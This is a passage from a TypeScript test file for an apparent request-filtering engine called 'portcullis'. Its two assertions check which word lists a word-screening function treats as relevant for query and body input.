  t.equal(engine.wordScreen.relevant(WORD_LISTS['portcullis.request.query.plain'] as number, '12345'), true, 'query words all go to the engine')
  t.equal(engine.wordScreen.relevant(WORD_LISTS['portcullis.request.body.plain'] as number, '12345'), false, 'other lists keep their screen')
})
